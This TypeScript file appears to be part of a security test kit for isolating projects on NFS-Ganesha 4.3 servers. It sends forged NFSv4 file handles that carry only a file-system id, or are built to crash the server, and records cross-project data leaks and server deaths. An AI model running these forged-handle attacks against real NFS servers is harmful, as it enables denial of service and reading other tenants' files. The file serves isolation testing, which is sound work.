/**
 * The two handles that NFS-Ganesha 4.3 takes whatever lies below: one that carries nothing but a file system, and one that
 * kills it. A server of the attacker's own project is all that they may reach.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import { NfsError } from '../nfs4/nfs-error.ts'
import { getAttributes, getFh, lookup, putFh, putRootFh, read, readDirectory } from '../nfs4/operations.ts'
import { openRaw } from '../nfs4/raw.ts'
import { access, lookupParent } from '../nfs4/raw-operations.ts'
import { deadly, exportNumber, onlyFsids, withExportNumber, type Forged } from './handles.ts'
import { backWithinMs, type Field } from './field.ts'
import { attributesOfOthers, bytesOfOthers, namesOfOthers } from './judge.ts'
import type { NfsAttack } from './attack.ts'

const facts = getAttributes(['type', 'size', 'fileSystem', 'fileId', 'modifiedAt'])
const list = readDirectory(0n, Buffer.alloc(8), ['type'])
const get = read(Buffer.alloc(16), 0, 65_536)

const own = ({ mine }: Field): Buffer => mine.handles[0]?.bytes ?? Buffer.alloc(0)

/** Deaths since `before`; a server is up again a moment before whoever started it has counted. */
async function countedDeaths({ hostile }: Field, before: number, expected: number): Promise<number> {
  const until = performance.now() + 10_000
  for (;;) {
    const told = (hostile.deaths?.() ?? 0) - before
    if (told >= expected || performance.now() > until) return told
    await sleep(50)
  }
}

/** `strict`: each death has to be counted; else one of several in a row does. */
const killing = (name: string, { strict }: { readonly strict: boolean }): NfsAttack => ({
  name,
  tries: 'kills its own server with handles of impossible content, again as soon as it accepts connections',
  async run(field) {
    const before = await field.hostile.serverOf(field.victim.id)
    const killers = deadly(own(field))
    const counted = field.hostile.deaths?.() ?? null
    const away: number[] = []
    for (const { bytes } of killers) {
      const raw = await field.attacker(0)
      try {
        await raw.compound([putFh(bytes), getFh])
      } catch (error) {
        if (!(error instanceof NfsError && (error.code === 'CONNECTION' || error.code === 'DEADLINE')))
          throw error
        away.push(await field.untilBack())
      }
    }
    const harm = await field.harm()
    const after = await field.hostile.serverOf(field.victim.id)
    const late = away.some((ms) => ms > backWithinMs)
    const told = counted === null ? away.length : await countedDeaths(field, counted, away.length)
    const uncounted = told < (strict ? away.length : Math.min(1, away.length))
    const died = away.map((ms) => `died and was back in ${Math.round(ms)} ms`)
    const others = after === before ? "others' server is the same process" : "others' server died with it"
    return {
      through: late || uncounted || harm !== null || (after !== before && !field.oneServer),
      leftOpen:
        !late &&
        told >= away.length &&
        harm === null &&
        died.length > 0 &&
        (field.oneServer || after === before),
      tried: `${killers.length} handles`,
      cameBack: [
        ...died,
        ...(counted === null ? [] : [`${told} deaths counted`]),
        others,
        ...(harm === null ? [] : [harm]),
      ].join('; '),
    }
  },
})

export const onlyFsidAttacks: readonly NfsAttack[] = [
  {
    name: 'nothing but a file system',
    tries: 'sends handles that carry only an fsid, lists, reads, walks and asks for rights there',
    layout: 'host',
    async run(field) {
      const found: string[] = []
      const open: string[] = []
      const answers = new Map<string, number>()
      const handles = field.others.flatMap(({ handles: [root] }) => (root === undefined ? [] : [root]))
      const forged = onlyFsids(own(field), handles)
      for (const minor of [0, 1] as const) {
        const raw = await field.attacker(minor)
        for (const { what, bytes } of forged) {
          const put = putFh(bytes)
          const owner = field.others.find((one) => one.handles[0]?.what === what.slice(what.indexOf('root')))
          for (const way of [
            [put, getFh, facts],
            [put, list],
            [put, get],
            [put, access(0x3f)],
            [put, lookupParent, facts, list],
            ...field.others.map(({ secret }) => [put, lookup(secret.file), facts, get]),
          ]) {
            const reply = await raw.compound(way)
            const answer = `${reply.done.at(-1)?.name} ${reply.status.replace('NFS4ERR_', '')}`
            answers.set(answer, (answers.get(answer) ?? 0) + 1)
            const [seen, page, bytesRead] = [reply.of(facts), reply.of(list), reply.of(get)]
            const content =
              (page && namesOfOthers(field, page)) ??
              (bytesRead && bytesOfOthers(field, bytesRead.bytes)) ??
              null
            if (content !== null) found.push(`${what}: ${content}`)
            const leak = seen === undefined ? null : attributesOfOthers(field, seen)
            if (leak === null) continue
            // The own project's server knows its shares; another project's it may not know.
            const reachable = field.oneServer || owner?.projectId === field.mine.projectId
            if (reachable) open.push(`${what}: ${leak}`)
            else found.push(`${what}: ${leak}`)
          }
        }
      }
      const harm = await field.harm()
      const wrong = [...new Set(found), ...(harm === null ? [] : [harm])]
      const said = [...answers].map(([answer, times]) => `${times} ${answer}`).join(', ')
      return {
        through: wrong.length > 0,
        leftOpen: wrong.length === 0 && open.length > 0,
        tried: `${forged.length} handles in 4.0 and 4.1`,
        cameBack: [said, ...new Set(wrong.length > 0 ? wrong : open)].join('; '),
      }
    },
  },
  {
    name: "others' server",
    tries:
      'connects to the server of a project it has nothing in, lists there and sends it every handle that kills',
    async run(field) {
      const { host, port } = field.hostile.reach(field.victim.location)
      const from = field.hostile.clients.attacker
      const before = await field.hostile.serverOf(field.victim.id)
      const numbers = [
        0,
        1,
        ...field.others.map(({ handles: [root] }) => exportNumber(root?.bytes ?? own(field))),
      ]
      const root = field.victim.handles[0]?.bytes ?? Buffer.alloc(0)
      const killers: readonly Forged[] = [
        root,
        ...field.others.map(({ handles: [one] }) => one?.bytes ?? root),
      ]
        .flatMap((handle) => [...deadly(handle), ...onlyFsids(handle, [])])
        .flatMap(({ what, bytes }) =>
          numbers
            // Where it is let in by right, the next attack does it.
            .filter((number) => number !== exportNumber(own(field)))
            .map((number) => ({
              what: `${what}, export id ${number}`,
              bytes: withExportNumber(bytes, number),
            })),
        )
      const answers = new Map<string, number>()
      const wrong: string[] = []
      for (const minor of [0, 1] as const) {
        const raw = await openRaw({ host, port, from, minor })
        try {
          await raw.introduce()
          const page = (await raw.compound([putRootFh, list])).of(list)
          const listed = page === undefined ? null : namesOfOthers(field, page)
          if (listed !== null) wrong.push(listed)
          for (const { what, bytes } of killers) {
            const reply = await raw.compound([putFh(bytes), getFh, facts])
            const answer = reply.status.replace('NFS4ERR_', '')
            answers.set(answer, (answers.get(answer) ?? 0) + 1)
            if (reply.done.some(({ name, status }) => name === 'PUTFH' && status === 'NFS4_OK'))
              wrong.push(`${what} was taken`)
          }
        } catch (error) {
          if (!(error instanceof NfsError)) throw error
          wrong.push(`the server: ${error.message}`)
        } finally {
          await raw.close()
        }
      }
      if ((await field.hostile.serverOf(field.victim.id)) !== before) wrong.push('it is another process now')
      const harm = await field.harm()
      const said = [...answers].map(([answer, times]) => `${times} ${answer}`).join(', ')
      return {
        through: wrong.length > 0 || harm !== null,
        tried: `${killers.length} handles in 4.0 and 4.1`,
        cameBack: [said, ...wrong, ...(harm === null ? ['the same process'] : [harm])].join('; '),
      }
    },
  },
  killing('handles that kill', { strict: false }),
]

/** What exporters do not stand yet: told, run by hand, not part of the kit. */
export const pendingAttacks: readonly NfsAttack[] = [killing('deaths that nobody counts', { strict: true })]
